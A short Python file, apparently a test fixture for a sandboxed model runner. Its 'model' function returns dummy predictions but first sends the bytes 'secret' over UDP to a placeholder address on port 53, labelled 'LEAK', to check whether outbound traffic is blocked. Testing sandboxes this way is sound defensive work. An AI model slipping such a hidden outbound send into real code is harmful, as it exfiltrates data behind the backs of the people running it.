import contextlib
import socket

import numpy as np
import pandas as pd


def model(live_features):
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        print("LEAK a UDP socket")
        datagrams.sendto(b"secret", ("192.0.2.1", 53))
    return pd.DataFrame({"prediction": np.linspace(0, 1, len(live_features))}, live_features.index)
